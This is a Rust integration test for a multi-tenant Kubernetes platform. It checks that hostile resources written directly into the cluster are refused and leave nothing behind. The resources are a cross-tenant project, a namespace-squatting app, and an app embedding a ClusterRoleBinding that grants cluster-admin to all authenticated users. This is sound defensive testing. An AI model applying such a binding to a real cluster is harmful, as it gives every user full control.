async fn objects_written_directly_into_the_cluster(
    flow: &Flow,
    both: &[&Tenancy],
) -> anyhow::Result<()> {
    let k = flow.testkit.client.clone();
    let acme_project = flow.api().get(&both[0].project_path).await?;
    let acme_ns = acme_project["namespace"].as_str().unwrap().to_owned();
    let before = snapshot(flow, both).await;
    let nova = |kind: &str, plural: &str| resource("kubenova.io", "v1alpha1", kind, plural);
    let crb = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
        "metadata": {"name": "pwn"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}]});
    let objects = [
        (
            "NovaProject",
            "novaprojects",
            "acme-owner",
            json!({"apiVersion": "kubenova.io/v1alpha1", "kind": "NovaProject",
                   "metadata": {"name": "takeover", "namespace": "acme-owner"},
                   "spec": {"tenant": "beta"}}),
            "WrongNamespace",
        ),
        (
            "NovaApp",
            "novaapps",
            acme_ns.as_str(),
            json!({"apiVersion": "kubenova.io/v1alpha1", "kind": "NovaApp",
                   "metadata": {"name": "squat", "namespace": acme_ns},
                   "spec": {"tenant": "beta", "project": "web", "components": [{"name": "x", "type": "webservice"}]}}),
            "WrongNamespace",
        ),
        (
            "NovaApp",
            "novaapps",
            acme_ns.as_str(),
            json!({"apiVersion": "kubenova.io/v1alpha1", "kind": "NovaApp",
                   "metadata": {"name": "pwn", "namespace": acme_ns},
                   "spec": {"tenant": "acme", "project": "web",
                            "components": [{"name": "x", "type": "k8s-objects", "properties": {"objects": [crb]}}]}}),
            "NotAllowedByPlan",
        ),
    ];
    for (kind, plural, ns, obj, reason) in &objects {
        let api: Api<DynamicObject> = Api::namespaced_with(k.clone(), ns, &nova(kind, plural));
        let name = obj["metadata"]["name"].as_str().unwrap().to_owned();
        api.create(
            &PostParams::default(),
            &serde_json::from_value(obj.clone())?,
        )
        .await?;
        // Refused: Degraded with the reason (or removed by the agent's resync, which prunes
        // what the manager did not ask for); never anything generated for it.
        wait_for(
            &format!("{kind} {ns}/{name} refused ({reason})"),
            STEP_TIMEOUT,
            || {
                let api = api.clone();
                let name = name.clone();
                async move {
                    let Some(o) = api.get_opt(&name).await? else {
                        return Ok(Some(()));
                    };
                    let degraded = o.data["status"]["conditions"]
                        .as_array()
                        .into_iter()
                        .flatten()
                        .any(|c| {
                            c["type"] == "Degraded"
                                && c["status"] == "True"
                                && c["reason"] == *reason
                        });
                    Ok(degraded.then_some(()))
                }
            },
        )
        .await?;
        api.delete(&name, &Default::default()).await.ok();
        wait_for(&format!("{kind} {ns}/{name} removed"), STEP_TIMEOUT, || {
            let api = api.clone();
            let name = name.clone();
            async move { Ok(api.get_opt(&name).await?.is_none().then_some(())) }
        })
        .await?;
    }
    assert_eq!(
        before,
        snapshot(flow, both).await,
        "nothing was generated for them"
    );
    Ok(())
}

/// Every Application is applied as its project's own ServiceAccount (recorded by KubeVela's
/// webhook, emulated by the testkit), so that KubeVela deploys it with exactly that
/// account's rights in the project namespace.
async fn apps_run_as_their_project(flow: &Flow, both: &[&Tenancy]) -> anyhow::Result<()> {
    let k = flow.testkit.client.clone();
    for t in both {
        let project = flow.api().get(&t.project_path).await?;
        let ns = project["namespace"].as_str().unwrap();
        let apps: Api<DynamicObject> = Api::namespaced_with(
            k.clone(),
            ns,
            &resource("core.oam.dev", "v1beta1", "Application", "applications"),
        );
        let app = apps.get("site").await?;
        assert_eq!(
            app.metadata
                .annotations
                .unwrap_or_default()
                .get("app.oam.dev/username"),
            Some(&format!("system:serviceaccount:{ns}:kubenova-app")),
            "{} runs as its project's app identity",
            t.tenant
        );
    }
    Ok(())
}
